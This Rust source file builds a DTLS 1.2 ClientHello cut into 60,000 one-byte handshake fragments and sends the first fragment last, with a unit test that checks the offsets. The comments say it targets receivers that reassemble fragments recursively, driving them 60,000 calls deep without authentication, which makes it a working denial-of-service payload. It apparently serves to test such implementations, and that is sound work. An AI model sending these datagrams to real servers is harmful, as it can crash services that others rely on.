//! A ClientHello in one-byte pieces, the first piece last.
//!
//! A receiver that keeps them all and puts them together by recursion goes 60,000 calls deep when
//! the last one arrives. None of it is authenticated.

/// How many bytes the hello has, each in a fragment of its own.
pub const FRAGMENTS: u32 = 60_000;

/// So many records fill a datagram that fits any path.
const RECORDS_EACH: usize = 46;

const HANDSHAKE: u8 = 22;
const DTLS_1_2: [u8; 2] = [0xfe, 0xfd];
const CLIENT_HELLO: u8 = 1;
/// The handshake header and the one byte after it.
const RECORD_BODY_LEN: u16 = 12 + 1;

/// Returns the datagrams to send, in this order.
pub fn hello_datagrams() -> impl Iterator<Item = Vec<u8>> {
    let offsets: Vec<u32> = (1..FRAGMENTS).chain([0]).collect();
    let records: Vec<Vec<u8>> = (0_u64..).zip(offsets).map(record).collect();
    let datagrams: Vec<Vec<u8>> = records.chunks(RECORDS_EACH).map(<[_]>::concat).collect();
    datagrams.into_iter()
}

/// A record with one byte of the hello (RFC 6347 §4.1, §4.2.2).
fn record((number, offset): (u64, u32)) -> Vec<u8> {
    let mut record = vec![HANDSHAKE];
    record.extend(DTLS_1_2);
    record.extend(number.to_be_bytes()); // epoch 0 and a sequence number of 48 bits
    record.extend(RECORD_BODY_LEN.to_be_bytes());
    record.push(CLIENT_HELLO);
    record.extend(three_bytes(FRAGMENTS));
    record.extend([0, 0]); // the first message
    record.extend(three_bytes(offset));
    record.extend(three_bytes(1));
    record.push(0);
    record
}

fn three_bytes(number: u32) -> [u8; 3] {
    let [_, bytes @ ..] = number.to_be_bytes();
    bytes
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_byte_comes_once_and_the_first_one_last() {
        let stream = hello_datagrams().collect::<Vec<_>>().concat();
        let offsets: Vec<u32> = stream
            .chunks_exact(26)
            .map(|record| u32::from_be_bytes([0, record[19], record[20], record[21]]))
            .collect();
        assert_eq!(offsets.last(), Some(&0));
        let mut sorted = offsets;
        sorted.sort_unstable();
        assert!(sorted.into_iter().eq(0..FRAGMENTS));
        assert_eq!(stream.len(), 1_560_000);
    }
}
